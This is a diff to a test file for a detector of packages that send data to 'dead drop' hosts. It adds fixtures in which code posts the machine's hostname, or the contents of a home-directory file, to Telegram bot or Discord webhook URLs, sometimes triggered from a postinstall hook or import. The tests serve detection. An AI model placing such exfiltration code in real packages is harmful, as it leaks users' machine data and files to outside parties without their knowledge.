@@ -3,10 +3,144 @@ import { sendsToDeadDrop } from './sends-to-dead-drop.ts';
 
 /** Written in parts: no test names a host that somebody answers on. */
 const collector = ['webhook', 'site'].join('.');
+const telegram = ['api', 'telegram', 'org'].join('.');
+const discord = ['discord', 'com'].join('.');
 const workers = ['none', 'workers', 'dev'].join('.');
 
 examine(sendsToDeadDrop, {
   speaks: [
+    {
+      when: 'a command tells the bot of the environment about the machine',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        '.env.example': 'TOKEN=',
+        'cli.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'a webhook of the environment is asked to change a message',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const { HOOK_ID: id, HOOK_TOKEN: token, MESSAGE } = process.env; fetch('https://${discord}/api/v10/webhooks/' + id + '/' + token + '/messages/' + MESSAGE, { method: 'PATCH', body: require('os').hostname() })`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'the environment goes to code of the package, which may put a token into it',
+      files: {
+        'index.js': `const fill = e => { e.TOKEN = globalThis.specimen() }; fill(process.env); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a token is taken apart into the environment',
+      files: {
+        'index.js': `({ t: process.env.TOKEN } = { t: globalThis.specimen() }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'another token is meant where the environment has none',
+      files: {
+        'index.js': `const { TOKEN = globalThis.specimen() } = process.env; fetch('https://${telegram}/bot' + TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'the package starts itself anew in an environment of its own making',
+      files: {
+        'index.js': `if (!process.env.TOKEN) require('child_process').fork(__filename, { env: { TOKEN: globalThis.specimen() } }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a token stands encoded in the code that reads one from settings',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const fs = require('fs'), f = require('os').homedir() + '/.specimenrc'; fs.writeFileSync(f, JSON.stringify({ token: Buffer.from('${Buffer.from(`1234567890:${'INERT-'.repeat(6)}`).toString('base64')}', 'base64').toString() })); const { token } = JSON.parse(fs.readFileSync(f, 'utf8')); fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'an import tells the bot of the environment about the machine',
+      files: {
+        'index.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'one part of a webhook is of the environment and the rest stands in the code',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `fetch('https://${discord}/api/webhooks/' + process.env.ID + '/INERT', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'an import sends what it finds to the bot that is named when the command is started',
+      files: {
+        'package.json': { name: 'x', main: 'cli.js', bin: 'cli.js' },
+        'cli.js': `const argv = require('yargs/yargs')(process.argv.slice(2)).argv; fetch('https://${telegram}/bot' + argv.token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a bot has its token from the environment, and another one where that is not set',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `fetch('https://${telegram}/bot' + (process.env.TOKEN || 'INERT') + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the token is put into the environment by the package itself',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `process.env.TOKEN ??= 'INERT'; fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a file of the environment comes with the package',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        '.env': 'TOKEN=INERT',
+        'cli.js': `require('dotenv').config({ path: __dirname + '/.env' }); fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the settings that name the bot come with the package',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const { token } = JSON.parse(require('fs').readFileSync(__dirname + '/bot.json')); fetch('https://${telegram}/bot' + token + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a file of the user goes into the question of an address, and whose bot it is nobody says',
+      files: {
+        'package.json': { name: 'x', main: 'index.js' },
+        'index.js': `const text = require('fs').readFileSync(require('os').homedir() + '/.specimenrc', 'utf8'); fetch('https://${telegram}/bot' + globalThis.specimen() + '/sendMessage?text=' + text)`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a package that is installed tells the bot of the environment about the machine',
+      files: {
+        'package.json': { name: 'x', scripts: { postinstall: 'node index.js' } },
+        'index.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/sendMessage', { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a caller names the method, and not the bot',
+      files: {
+        'index.js': `exports.call = method => fetch('https://${telegram}/bot' + globalThis.specimen() + '/' + method, { method: 'POST', body: require('os').hostname() })`,
+      },
+      weight: 'strong',
+    },
     {
       when: 'a cheap host is asked at import, and is sent what another file reads when somebody calls',
       files: {
@@ -58,6 +192,41 @@ examine(sendsToDeadDrop, {
     { when: 'an import asks a cheap host', files: { 'index.js': `fetch('https://${workers}/x')` }, weight: 'weak' },
   ],
   silent: [
+    {
+      when: 'a command has the token of its bot from the environment',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        '.env.example': 'TOKEN=',
+        'cli.js': `fetch('https://${telegram}/bot' + process.env.TOKEN + '/getUpdates')`,
+      },
+    },
+    {
+      when: 'a bot has its token from settings of the project',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `import { Bot } from './bot.js'; const { default: config } = await import(process.cwd() + '/bot.config.js'); await new Bot(config.token).start();`,
+        'bot.js': `export class Bot { #base; constructor(token) { this.#base = 'https://${telegram}/bot' + token } start() { return fetch(this.#base + '/getMe') } }`,
+      },
+    },
+    {
+      when: 'a token that was set as an option of the command goes nowhere but into the address of the bot',
+      files: {
+        'package.json': { name: 'x', bin: 'cli.js' },
+        'cli.js': `const { program } = require('commander'); program.option('--token <token>').action(({ token }) => fetch('https://${telegram}/bot' + token + '/getMe'));`,
+      },
+    },
+    {
+      when: 'whoever makes a transport names the bot, and the host stands apart from it',
+      files: {
+        'index.js': `const https = require('https'); exports.Transport = class { constructor({ token }) { this.token = token } log(text) { https.request({ host: '${telegram}', path: '/bot' + this.token + '/sendMessage', method: 'POST' }).end(text) } }`,
+      },
+    },
+    {
+      when: 'whoever makes a transport names the webhook',
+      files: {
+        'index.js': `exports.Transport = class { constructor({ id, token }) { this.url = 'https://${discord}/api/webhooks/' + id + '/' + token } log(text) { return fetch(this.url, { method: 'POST', body: text }) } }`,
+      },
+    },
     { when: 'a list of hosts is only data', files: { 'index.js': `module.exports = ['https://${collector}/', 'http://192.0.2.7']` } },
     {
       when: 'it talks to this machine and its network',
